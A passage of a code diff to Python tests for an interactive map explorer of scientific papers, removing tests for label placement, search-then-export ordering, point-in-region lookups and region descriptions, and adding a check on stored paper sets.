+        json.loads(gzip.decompress(explorer.map.files["source.json"]))["sets"]["mine"][0]["papers"]
+        == 2
     )
-    boxes = np.array([name.box for name in explorer._drawn.names])
-    for x, y in best:
-        assert not (
-            (boxes[:, 0] < x) & (x < boxes[:, 2]) & (boxes[:, 1] < y) & (y < boxes[:, 3])
-        ).any()
-
-
-def test_a_file_is_made_after_the_search_that_runs(explorer, monkeypatch):
-    import threading
-
-    from landscape.widgets import _explorer_tasks as work
-
-    go_on, find = threading.Event(), work.find_papers
-    monkeypatch.setattr(work, "find_papers", lambda *a, **k: go_on.wait() and find(*a, **k))
-    explorer.search("dark matter", k=10)
-    explorer._make_file(".png")
-    assert "comes next, after: Searching" in explorer.status
-    go_on.set()
-    assert explorer.wait(120)
-    assert len(explorer.results.rows) == 10
-    assert "download=" in explorer._controls.file.value
-
-
-def test_points_find_what_a_plain_search_finds():
-    rng = np.random.default_rng(0)
-    x, y = rng.normal(size=(2, 5_000)).astype(np.float32)
-    x[:3] = np.nan
-    points = Points(x, y)
-    box = (-0.5, -0.2, 0.7, 1.1)
-    inside = (x >= box[0]) & (x <= box[2]) & (y >= box[1]) & (y <= box[3])
-    assert points.within(box).tolist() == np.flatnonzero(inside).tolist()
-    half = points.only(np.arange(5_000) % 2 == 0)
-    assert half.within(box).tolist() == [row for row in np.flatnonzero(inside) if row % 2 == 0]
-    from matplotlib.path import Path
-
-    corners = [(-1, -1), (1, -0.5), (0.2, 0.3), (0.9, 1.5), (-0.7, 0.8)]
-    expected = Path([*corners, corners[0]]).contains_points(np.column_stack([x, y]))
-    found = points.inside([a for a, _ in corners], [b for _, b in corners])
-    assert found.tolist() == np.flatnonzero(expected).tolist()
-
-
-def test_a_chosen_region_is_described(explorer):
-    topic = explorer.atlas.topics[explorer.atlas.topics["level"] == 1].iloc[0]
-    explorer._controls.regions.value = int(topic["topic_id"])
-    record = explorer._controls.record.value
-    assert f"{topic['n_papers']} papers" in record
-    assert "Typical: " in record
+    listed = MapExplorer(demo_atlas, mine=[paper.bibcode for paper in papers])
+    assert again(listed).map.source.mine.tolist() == [3, 77]
